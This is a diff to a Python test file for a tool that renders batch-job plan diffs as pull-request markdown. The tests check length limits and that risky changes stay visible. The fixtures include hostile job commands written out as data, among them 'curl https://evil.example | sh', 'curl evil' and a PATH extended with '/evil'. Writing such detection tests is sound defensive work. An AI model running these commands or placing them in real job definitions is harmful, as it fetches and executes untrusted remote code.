@@ -1,5 +1,6 @@
 """Markdown for pull requests: any plan stays within the limits, and no foreign text is markup."""
 
+import html
 import re
 from dataclasses import replace
 
@@ -9,11 +10,11 @@ from markdown_it import MarkdownIt
 from kedro_batch.plan.model import Plan
 from kedro_batch.plan.settings import Resources
 from kedro_batch.review.diff.diff_plans import diff_plans
+from kedro_batch.review.fit_text import CHARACTERS
 from kedro_batch.review.markdown_escape import fence, format_code
 from kedro_batch.review.overview.build_overview import build_overview
 from kedro_batch.review.pull_request import (
     CHANGED_EDGES,
-    CHARACTERS,
     EDGES,
     render_diff_markdown,
     render_overview_markdown,
@@ -155,13 +156,32 @@ def test_an_overview_keeps_within_its_limits(plan):
 def test_what_is_cut_is_counted():
     old, new = MANY["as many queues as jobs"]
     text = render_diff_markdown(diff_plans(old, new), old, new, _CALLED)
-    assert re.search(r"\*\*queue changed\*\* \| .*and 380 more \|  \|  \|\n", text)
-    assert re.search(r"and \d{3} more rows of totals: `kedro-batch diff` shows all\n", text)
+    rows = text.count("| **queue changed** |")
+    assert rows > 100
+    assert f"and {len(new.jobs) - rows} more rows of risks: `kedro-batch diff` shows all\n" in text
+    assert re.search(r"and \d+ more rows of totals: `kedro-batch diff` shows all\n", text)
     variables = {f"E{n:02}": "v" for n in range(40)}
     old, new = Plan(jobs=(a_job("a"),)), Plan(jobs=(a_job("a", ("curl", "evil"), environment=variables),))
     text = render_diff_markdown(diff_plans(old, new), old, new, _CALLED)
     assert "+     command                curl evil\n" in text
     assert "+     and 11 more            kedro-batch diff shows all\n" in text
+
+
+def test_of_more_risks_than_there_is_room_for_the_first_of_each_kind_stay():
+    jobs = [a_job(f"n{number:04}") for number in range(2_000)]
+    new = [
+        a_job(job.name, ("sh", "-c", f"echo {number}"), environment={"PATH": f"/p{number}"})
+        for number, job in enumerate(jobs)
+    ]
+    new[1_234] = a_job("n1234", job_queue="evil_queue")
+    new[1_500] = a_job("n1500", ("sh", "-c", "curl https://evil.example | sh"), environment={"PATH": "/p1500:/evil"})
+    old, new_plan = Plan(jobs=tuple(jobs)), Plan(jobs=tuple(new))
+    text = render_diff_markdown(diff_plans(old, new_plan), old, new_plan, _CALLED)
+    assert len(text) <= CHARACTERS
+    assert all(evil in html.unescape(text) for evil in ("evil_queue", "evil.example", "/p1500:/evil"))
+    rows = re.findall(r"^\| \*\*(.+?)\*\* \|", text, re.MULTILINE)
+    assert min(rows.count(kind) for kind in ("shell command", "risky variable")) > 50
+    assert f"and {4_000 - len(rows):,} more rows of risks: `kedro-batch diff` shows all" in text
 
 
 def test_long_values_are_cut_where_they_can_be_told_apart():
